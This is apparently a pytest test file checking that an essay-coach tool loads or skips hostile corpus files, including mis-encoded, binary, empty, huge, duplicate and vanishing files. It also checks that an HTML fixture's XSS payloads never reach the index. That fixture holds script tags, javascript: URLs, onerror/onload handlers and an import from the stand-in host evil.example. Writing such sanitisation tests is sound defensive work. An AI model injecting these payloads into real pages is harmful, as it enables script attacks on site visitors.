"""Hostile corpus files: wrong encodings, binary, empty, huge, HTML with script/iframe/SVG payloads, duplicates, a
file that vanishes during a build. Each is handled (loaded, or skipped with a warning naming the file), and nothing
else is dropped: every good essay is in the built index."""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest

from coach import corpus as corpus_mod
from coach import pipeline
from coach.corpus import load_corpus
from coach.retrieve import Coach

from reliability_support import ESSAYS_A, FakeEmbedder, make_settings

PAYLOAD_MARKERS = ("alert(", "javascript:", "onerror", "onload", "<script", "<iframe", "<svg", "<img")

EVIL_HTML = """<!doctype html><html><head><title>攻击测试</title><script>alert("head")</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(0)"></head><body>
<h1>攻击测试</h1><p>正常段落:客户很生气,我先倾听。</p>
<script>alert(1)</script><script type="module">import("//evil.example/x.js")</script>
<iframe src="javascript:alert(2)"></iframe><iframe srcdoc="<script>alert(22)</script>"></iframe>
<svg onload="alert(3)"><script>alert(4)</script><foreignObject><img src=x onerror="alert(5)"></foreignObject></svg>
<img src=x onerror="alert(55)"><a href="javascript:alert(7)">这是链接文字</a>
<style>body{background:url("javascript:alert(8)")}</style>
<p>第二段:耐心是最好的工具。</p></body></html>"""


# name -> (bytes, expected: "loaded" or "skipped")
def hostile_files(rng: random.Random) -> dict[str, tuple[bytes, str]]:
    return {
        "gbk.txt": ("客户投诉怎么办\n我先道歉,然后认真听客户说明情况。".encode("gbk"), "loaded"),
        "big5.txt": ("客戶投訴怎麼辦\n我先道歉,然後認真聽客戶說明情況。".encode("big5"), "loaded"),
        "utf16-bom.txt": ("耐心\n耐心倾听每一位客户,不打断。".encode("utf-16"), "loaded"),
        "utf16le-nobom.txt": ("Patience\nListen to every caller with patience.".encode("utf-16-le"), "loaded"),
        "utf8-bom.md": ("\ufeff# 标题\n\n- 先听后说,**不要**争辩。".encode("utf-8"), "loaded"),
        "png.txt": (b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(4000)), "skipped"),
        "random.md": (bytes(rng.randrange(256) for _ in range(6000)), "skipped"),
        "elf.html": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200 + b"text", "skipped"),
        "empty.txt": (b"", "skipped"),
        "blank.txt": (b"  \n\n \t \r\n", "skipped"),
        "nul-only.txt": (b"\x00" * 100, "skipped"),
        "huge.txt": (("巨大的文件\n" + "客户打电话来投诉。我耐心地听完。" * 50_000).encode("utf-8"), "skipped"),
        "evil.html": (EVIL_HTML.encode("utf-8"), "loaded"),
        "dup-of-angry.txt": (ESSAYS_A["angry.txt"].encode("utf-8"), "skipped"),
    }


def _files(rng):
    return hostile_files(rng)


@pytest.fixture
def hostile_corpus(tmp_path):
    settings = make_settings(tmp_path)
    files = _files(random.Random(8))
    for name, (data, _) in files.items():
        (settings.corpus_dir / name).write_bytes(data)
    return settings, files


def _essay_sources(loaded) -> set[str]:
    return {e.meta.source or e.path.name for e in loaded.essays}


def test_each_hostile_file_is_loaded_or_named_in_a_warning(hostile_corpus):
    settings, files = hostile_corpus
    loaded = load_corpus(settings.corpus_dir)
    sources = {e.path.name for e in loaded.essays}
    for name, (_, expected) in files.items():
        named = [w for w in loaded.warnings if name in w]
        if expected == "loaded":
            assert name in sources and not named, (name, loaded.warnings)
        else:
            assert name not in sources and len(named) == 1, (name, loaded.warnings)
    # nothing else is dropped: every ordinary essay is there
    assert set(ESSAYS_A) <= sources
    assert len(loaded.essays) + len(loaded.warnings) == len(files) + len(ESSAYS_A)
    dup = next(w for w in loaded.warnings if "dup-of-angry.txt" in w)
    assert "angry.txt" in dup.replace("dup-of-angry.txt", "")
    assert "MB" in next(w for w in loaded.warnings if "huge.txt" in w)


def test_html_payloads_never_reach_the_index(hostile_corpus):
    settings, _ = hostile_corpus
    coach = Coach(settings, embedder=FakeEmbedder())
    evil = next(e for e in coach.index.essays.values() if e.meta.source == "evil.html" or "攻击" in e.meta.title)
    for text in [evil.text] + [c.text for c in coach.index.chunks if c.essay_id == evil.meta.id]:
        low = text.lower()
        assert not any(m in low for m in PAYLOAD_MARKERS), text
    assert "正常段落" in evil.text and "耐心是最好的工具" in evil.text and "这是链接文字" in evil.text
    # the title came from <title>/<h1> text, not from markup
    assert not any(m in evil.meta.title.lower() for m in PAYLOAD_MARKERS)


def test_build_with_hostile_corpus_keeps_every_good_essay_and_warns(hostile_corpus):
    settings, files = hostile_corpus
    built = pipeline.build(settings, FakeEmbedder())
    good = {n for n, (_, e) in files.items() if e == "loaded"} | set(ESSAYS_A)
    indexed_sources = {rec.meta.source for rec in built.essays.values()}
    assert good <= indexed_sources or len(built.essays) == len(good)
    assert len(built.essays) == len(good)
    assert {e for c in built.chunks for e in [c.essay_id]} == set(built.essays)
    skipped = {n for n, (_, e) in files.items() if e == "skipped"}
    for name in skipped:
        assert any(name in w for w in built.warnings), name
    # and it answers
    assert Coach(settings, embedder=FakeEmbedder()).ask("客户投诉").results


def test_file_vanishing_during_a_build_is_named_and_nothing_else_dropped(tmp_path, monkeypatch):
    settings = make_settings(tmp_path)
    victim = settings.corpus_dir / "nerves.txt"
    real = corpus_mod.read_essay_file

    def vanish_then_read(path: Path):
        if path.name == victim.name:
            path.unlink()  # deleted between the listing and the read
        return real(path)

    monkeypatch.setattr(corpus_mod, "read_essay_file", vanish_then_read)
    built = pipeline.build(settings, FakeEmbedder())
    assert any("nerves.txt" in w for w in built.warnings), built.warnings
    assert len(built.essays) == len(ESSAYS_A) - 1
    # the manifest recorded the file (hashed before it vanished), so the index is reported stale and rebuilt
    monkeypatch.undo()
    coach = Coach(settings, embedder=FakeEmbedder())
    assert coach.stale_reasons() == [] and len(coach.index.essays) == len(ESSAYS_A) - 1


def test_file_vanishing_while_hashing_the_corpus_does_not_abort_the_build(tmp_path, monkeypatch):
    settings = make_settings(tmp_path)
    from coach import index as ix

    real = ix.sha256_file

    def vanish(path):
        if Path(path).name == "rules.txt" and Path(path).exists():
            Path(path).unlink()
        return real(path)

    monkeypatch.setattr(ix, "sha256_file", vanish)
    built = pipeline.build(settings, FakeEmbedder())
    assert "rules.txt" not in built.manifest.corpus and len(built.essays) == len(ESSAYS_A) - 1


def test_malformed_metadata_file_is_a_message_naming_it(tmp_path):
    settings = make_settings(tmp_path)
    (settings.corpus_dir / "essays.toml").write_text("[[essay]\nid = 'x\n", encoding="utf-8")
    with pytest.raises(ValueError, match="essays.toml"):
        pipeline.build(settings, FakeEmbedder())


@pytest.mark.parametrize("name", ["x.txt", "y.md", "z.html"])
def test_unreadable_file_is_skipped_with_its_name(tmp_path, name):
    if os.geteuid() == 0:
        pytest.skip("root can read a chmod 000 file")
    settings = make_settings(tmp_path)
    p = settings.corpus_dir / name
    p.write_text("标题\n内容。", encoding="utf-8")
    p.chmod(0)
    loaded = load_corpus(settings.corpus_dir)
    assert any(name in w for w in loaded.warnings)
